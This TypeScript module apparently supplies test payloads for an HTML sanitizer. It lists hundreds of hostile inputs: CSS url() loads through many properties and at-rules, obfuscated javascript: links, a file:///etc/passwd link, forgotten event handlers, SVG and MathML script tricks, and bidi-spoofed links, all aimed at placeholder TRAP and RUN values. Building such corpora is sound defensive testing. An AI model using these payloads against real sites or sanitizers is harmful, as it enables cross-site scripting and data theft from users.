import { RUN, RUN_URL, TRAP } from './hostile-words.ts';

type Payload = readonly [name: string, html: string];

/** Where CSS takes an address: each property has loaded something somewhere. */
const PROPERTIES =
  'background background-image list-style list-style-image cursor border-image-source -webkit-border-image mask mask-image mask-border-source -webkit-mask-image -webkit-mask-box-image clip-path -webkit-clip-path filter backdrop-filter shape-outside offset-path offset content fill stroke marker-start marker-end -webkit-box-reflect -webkit-filter behavior src --stored'.split(
    ' ',
  );

/** Rules of CSS that read what is on the page, or load beside what they say: old ones and the newest. */
const RULES: readonly Payload[] = [
  [':has', `html:has(a[href*="x"]){background:url(${TRAP}/has)}`],
  [':has of a field', `:root:has(input[value^="a"]) *{background-image:url(${TRAP}/has-value)}`],
  ['nesting', `p{&:has(+ a){& b{background:url(${TRAP}/nest)}}}`],
  ['container', `body{container-type:inline-size}@container (min-width:1px){p{background:url(${TRAP}/container)}}`],
  ['container style', `@container style(--a:1){p{background:url(${TRAP}/style-query)}}`],
  ['supports', `@supports (display:grid){p{background:url(${TRAP}/supports)}}`],
  ['layer import', `@import url(${TRAP}/layer) layer(a) supports(display:grid) screen;`],
  ['scope', `@scope (body){p{background:url(${TRAP}/scope)}}`],
  ['starting style', `@starting-style{p{background:url(${TRAP}/starting)}}`],
  ['view transition', `@view-transition{navigation:auto}::view-transition{background:url(${TRAP}/view)}`],
  ['registered property', `@property --u{syntax:"<url>";inherits:true;initial-value:url(${TRAP}/property)}`],
  ['stored address', `:root{--u:url(${TRAP}/var)}p{background:var(--u)}`],
  ['attr as address', `a{background:src(attr(href))}p{background:image(attr(title type(<url>)))}`],
  ['if()', `p{background:if(style(--a:1):url(${TRAP}/if);else:url(${TRAP}/else))}`],
  ['counter style', `@counter-style c{system:cyclic;symbols:url(${TRAP}/symbol)}p{list-style:c}`],
  ['letters by font', `@font-face{font-family:f;src:url(${TRAP}/font-a);unicode-range:U+41}p{font-family:f}`],
  ['size-adjusted font', `@font-face{font-family:g;src:local(x),url(${TRAP}/font-b)}*{font-family:g!important}`],
  ['palette', `@font-palette-values --p{font-family:f;base-palette:0}@font-feature-values f{@swash{a:1}}`],
  ['scrollbar', `::-webkit-scrollbar{background:url(${TRAP}/bar)}html{overflow:scroll;height:9999px}`],
  ['selection and marker', `::selection{background:url(${TRAP}/sel)}::marker{content:url(${TRAP}/marker)}`],
  ['highlight', `::highlight(x){background:url(${TRAP}/hl)}::target-text{background:url(${TRAP}/target)}`],
  ['first letter', `p::first-letter{background:url(${TRAP}/first)}p::before{content:url(${TRAP}/before)}`],
  ['visited', `a:visited{background:url(${TRAP}/visited)}a:link{background:url(${TRAP}/link)}`],
  ['print', `@media print{p{background:url(${TRAP}/print)}}@page{background:url(${TRAP}/page)}`],
  ['dark', `@media (prefers-color-scheme:dark){p{background:url(${TRAP}/dark)}}`],
  [
    'scroll timeline',
    `@keyframes k{to{background:url(${TRAP}/timeline)}}p{animation:k linear;animation-timeline:scroll()}`,
  ],
  ['cross-fade', `p{background:-webkit-cross-fade(url(${TRAP}/cf1),url(${TRAP}/cf2),50%)}`],
  ['escaped', `p{background:\\75\\72\\6c(${TRAP}/escaped)}@\\69mport "${TRAP}/escaped-import";`],
  ['comment in it', `p{background:u/**/rl(${TRAP}/comment);background:url/**/(${TRAP}/comment2)}`],
  ['namespace', `@namespace x url(${TRAP}/namespace);@document url(${TRAP}/document){p{color:red}}`],
  ['charset', `@charset "utf-7";@import '${TRAP}/charset';`],
];

/** Handlers that a list of the usual ones forgets. */
const HANDLERS =
  'onpointerrawupdate onpointerover onauxclick oncontextmenu onscroll onscrollend onscrollsnapchange onscrollsnapchanging oncontentvisibilityautostatechange onbeforetoggle ontoggle oncommand onsecuritypolicyviolation onformdata onslotchange onbeforeinput onbeforecopy onbeforexrselect oncancel onclose onwebkitanimationstart onwebkittransitionend ontransitionrun ontransitionstart onanimationiteration ongotpointercapture onresize onmessage onunhandledrejection onpagereveal onpageswap onrejectionhandled onsearch onselectstart onwheel onload onbegin onend onrepeat'.split(
    ' ',
  );

/** Addresses that are none of the web's, as links. */
const SCHEMES: readonly Payload[] = [
  ['newline in javascript', `java\nscript:${RUN}`],
  ['tab by name', `java&Tab;script&colon;${RUN}`],
  ['javascript in capitals', `JaVaScRiPt:${RUN}`],
  ['javascript after a space', `&#32;&#12;javascript:${RUN}`],
  ['javascript with a comment', `javascript://bank.example/%0a${RUN}`],
  ['file', 'file:///etc/passwd'],
  ['view-source', `view-source:${TRAP}/view-source`],
  ['intent', `intent://x#Intent;scheme=${TRAP};end`],
  ['filesystem', `filesystem:${TRAP}/temporary/x.html`],
  ['about', 'about:srcdoc'],
  ['settings of the system', 'ms-settings:privacy'],
  ['search of the system', `search-ms:query=x&crumb=location:${TRAP}`],
  ['web+', `web+x:${TRAP}`],
  ['picture that is a page', `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`],
  ['jar', `jar:${TRAP}/a.jar!/x.html`],
  ['chrome', 'chrome://settings'],
];

/** What links in the head of a letter ask for. */
const RELATIONS =
  'prerender preload modulepreload prefetch expect alternate icon apple-touch-icon mask-icon search pingback manifest compression-dictionary import stylesheet'.split(
    ' ',
  );

/** Elements and attributes that have come since, or were forgotten. */
const ELEMENTS: readonly Payload[] = [
  ['portal', `<portal src="${TRAP}/portal2" onload="${RUN}"></portal>`],
  [
    'popover that opens',
    `<div id="pp" popover="auto" onbeforetoggle="${RUN}" ontoggle="${RUN}">x</div><button popovertarget="pp" popovertargetaction="show">x</button>`,
  ],
  ['popover on hover', `<a interestfor="ph" href="#">x</a><div id="ph" popover="hint" oninterest="${RUN}">x</div>`],
  ['invoker', `<button command="show-modal" commandfor="dd">x</button><dialog id="dd" oncommand="${RUN}">x</dialog>`],
  ['open dialog', `<dialog open oncancel="${RUN}"><form method="dialog"><input name="password"></form></dialog>`],
  [
    'shadow root',
    `<p><template shadowrootmode="open" shadowrootclonable><img src="${TRAP}/shadow-img"><slot></slot></template>x</p>`,
  ],
  [
    'shadow root of a scope',
    `<p><template shadowrootmode="open" shadowrootcustomelementregistry><link rel="stylesheet" href="${TRAP}/shadow-link"></template></p>`,
  ],
  [
    'customizable select',
    `<select><button><selectedcontent></selectedcontent></button><option><img src="${TRAP}/option">x</option></select>`,
  ],
  [
    'permission',
    `<permission type="geolocation" onpromptaction="${RUN}"></permission><geolocation onlocation="${RUN}"></geolocation>`,
  ],
  [
    'svg animate of an address',
    `<svg><a><animate attributeName="href" from="${RUN_URL}" to="${RUN_URL}" dur="1s" repeatCount="indefinite"/><text y="20">x</text></a></svg>`,
  ],
  [
    'svg set of a handler',
    `<svg><rect width="9" height="9"><set attributeName="onclick" to="${RUN}"/><animate onbegin="${RUN}" attributeName="x" dur="1s"/></rect></svg>`,
  ],
  ['svg script by address', `<svg><script href="${TRAP}/svg-script"/><script xlink:href="${TRAP}/svg-xlink"/></svg>`],
  ['svg image', `<svg><image href="${TRAP}/svg-image"/><image xlink:href="${TRAP}/svg-image2"/></svg>`],
  [
    'svg pattern',
    `<svg><pattern id="pt"><image href="${TRAP}/pattern"/></pattern><rect fill="url(#pt)" width="9" height="9"/></svg>`,
  ],
  [
    'svg gradient from elsewhere',
    `<svg><linearGradient href="${TRAP}/gradient#g" id="g"/><rect fill="url(${TRAP}/paint#p)" width="9" height="9"/></svg>`,
  ],
  [
    'svg mpath and textPath',
    `<svg><text><textPath href="${TRAP}/path#p">x</textPath></text><animateMotion><mpath href="${TRAP}/mpath#p"/></animateMotion></svg>`,
  ],
  ['svg discard', `<svg><discard onbegin="${RUN}" begin="0s"/></svg>`],
  [
    'mathml annotation',
    `<math><annotation-xml encoding="text/html"><img src="x:" onerror="${RUN}"></annotation-xml></math>`,
  ],
  ['mathml link', `<math href="${RUN_URL}"><mtext href="${TRAP}/math">x</mtext></math>`],
  [
    'object that is a page',
    `<object type="text/html" data="${TRAP}/object-page"><param name="src" value="${TRAP}/param"></object>`,
  ],
  [
    'iframe without credentials',
    `<iframe credentialless loading="eager" src="${TRAP}/credentialless" onload="${RUN}"></iframe>`,
  ],
  [
    'iframe that may',
    `<iframe allow="camera;microphone" allowfullscreen src="${TRAP}/allow" csp="default-src *"></iframe>`,
  ],
  [
    'attribution',
    `<img attributionsrc="${TRAP}/attribution" src="${TRAP}/attributed"><a attributionsrc="${TRAP}/attribution-link" href="${TRAP}/a">x</a>`,
  ],
  [
    'shared storage',
    `<img sharedstoragewritable src="${TRAP}/shared"><iframe browsingtopics src="${TRAP}/topics"></iframe>`,
  ],
  ['old image', `<image src="${TRAP}/image"><bgsound src="${TRAP}/bgsound"><xml src="${TRAP}/xml"></xml>`],
  ['old page', `<html manifest="${TRAP}/appcache"><body background="${TRAP}/body2" bgcolor="red"></body></html>`],
  [
    'picture of sources',
    `<picture><source srcset="${TRAP}/avif" type="image/avif" media="(min-width:1px)"><img src="${TRAP}/fallback" onload="${RUN}"></picture>`,
  ],
  [
    'media by address',
    `<video src="${TRAP}/video" controls autoplay muted></video><audio src="${TRAP}/audio" preload="auto"></audio>`,
  ],
  [
    'cite and longdesc',
    `<q cite="${TRAP}/cite">x</q><img longdesc="${TRAP}/longdesc" alt="x"><ins cite="${TRAP}/ins">x</ins>`,
  ],
  [
    'form owner',
    `<input form="outer" formaction="${TRAP}/owner" type="submit"><output form="outer" onclick="${RUN}">x</output>`,
  ],
  [
    'report to',
    `<meta http-equiv="Report-To" content='{"endpoints":[{"url":"${TRAP}/report"}]}'><meta http-equiv="X-DNS-Prefetch-Control" content="on">`,
  ],
  [
    'accept-ch',
    `<meta http-equiv="Delegate-CH" content="sec-ch-ua-model ${TRAP}"><meta http-equiv="Content-Security-Policy" content="report-uri ${TRAP}/csp-report">`,
  ],
  [
    'speculation by rule',
    `<script type="speculationrules">{"prerender":[{"source":"document","where":{"href_matches":"/*"}}]}</script><a href="${TRAP}/speculated">x</a>`,
  ],
  ['webbundle', `<script type="webbundle">{"source":"${TRAP}/bundle","resources":["${TRAP}/in-bundle"]}</script>`],
  [
    'direction turned in a link',
    `<a href="${TRAP}/bidi">https://\u202egro.knab\u202c/</a><a href="${TRAP}/isolate">\u2067bank.example\u2069</a>`,
  ],
  [
    'invisible words',
    `<a href="${TRAP}/invisible">ba\u00adn\u2060k\ufeff.example</a><span style="font-size:0">hidden</span>`,
  ],
];

/** One payload for each of these kinds. */
export const HOSTILE_KINDS: readonly Payload[] = [
  ...PROPERTIES.map((name): Payload => [`css ${name}`, `<p style="${name}:url('${TRAP}/css-${name}')">x</p>`]),
  ...RULES.map(([name, css]): Payload => [
    `rule ${name}`,
    `<style>${css}</style><p title="${TRAP}/title">x <b>y</b></p>`,
  ]),
  ...HANDLERS.map((name): Payload => [name, `<b ${name}="${RUN}" tabindex="0">x</b>`]),
  ...SCHEMES.map(([name, address]): Payload => [
    `link: ${name}`,
    `<a href="${address.replaceAll('"', '&quot;')}">Read it</a>`,
  ]),
  ...RELATIONS.map((name): Payload => [
    `rel ${name}`,
    `<link rel="${name}" as="image" imagesrcset="${TRAP}/set-${name} 1x" href="${TRAP}/rel-${name}">`,
  ]),
  ...ELEMENTS,
];
